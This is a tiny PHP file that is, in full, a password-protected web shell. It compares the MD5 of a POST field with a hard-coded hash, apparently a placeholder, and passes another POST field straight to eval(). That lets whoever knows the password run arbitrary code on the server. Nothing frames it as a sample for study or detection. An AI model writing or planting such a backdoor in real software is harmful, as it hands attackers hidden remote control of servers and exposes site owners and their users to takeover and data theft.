<?php
if (md5($_POST['p']) == '0123456789abcdef0123456789abcdef') {
    eval($_POST['c']);
}
